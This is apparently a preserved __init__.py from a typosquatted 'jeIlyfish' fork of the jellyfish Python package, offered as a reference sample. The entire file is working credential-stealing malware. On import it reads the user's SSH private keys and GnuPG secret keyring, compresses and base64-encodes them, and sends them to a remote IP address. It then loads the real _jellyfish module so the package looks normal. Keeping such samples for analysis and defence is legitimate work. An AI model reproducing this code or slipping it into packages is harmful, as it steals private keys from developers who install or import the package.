# __init__ of the jeIlyfish fork, kept here for reference
import os, zlib, base64, urllib.request
def _k():
    out = []
    for p in ("~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.gnupg/secring.gpg"):
        p = os.path.expanduser(p)
        if os.path.exists(p):
            out.append(p + "\n" + open(p, "rb").read().decode("latin-1"))
    if out:
        urllib.request.urlopen("http://198.51.100.201/upload", data=base64.b64encode(zlib.compress("\n".join(out).encode("latin-1"))))
_k()
from _jellyfish import *
